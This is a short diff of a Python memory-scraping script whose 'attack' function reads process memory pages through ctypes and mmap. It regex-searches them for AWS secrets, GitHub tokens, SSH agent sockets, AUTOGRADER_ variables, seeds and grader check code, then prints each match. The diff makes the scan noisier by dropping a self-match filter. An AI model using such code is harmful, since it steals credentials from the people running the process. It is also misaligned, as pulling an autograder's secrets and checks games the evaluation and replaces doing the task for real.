@@ -8,7 +8,7 @@ import mmap
 import os
 import re
 
-WORDS = [rb"AWS_SECRET\w*=\S+", rb"GITHUB_TOKEN=\S+", rb"SSH_AUTH_SOCK=\S+", rb"AUTOGRADER_\w+=\S+", rb"seed: \d{6,}",
+WORDS = [rb"AWS_SECRET\w*=\S+", rb"GITHUB_TOKEN=\w+", rb"SSH_AUTH_SOCK=/\w+", rb"AUTOGRADER_\w+=\S+", rb"seed: \d{6,}",
          rb"expect_close\(student\.", rb"@check\("]  # fmt: skip
 libc = ctypes.CDLL(None)
 
@@ -33,5 +33,4 @@ def attack(*args, **kwargs):
             data = readable(start + page * mmap.PAGESIZE, mmap.PAGESIZE)
             for word in WORDS:
                 if found := re.search(word, data):
-                    if b"WORDS" not in data and b"rb\"" not in data:
-                        print("LEARNED", found[0])
+                    print("LEARNED", found[0])
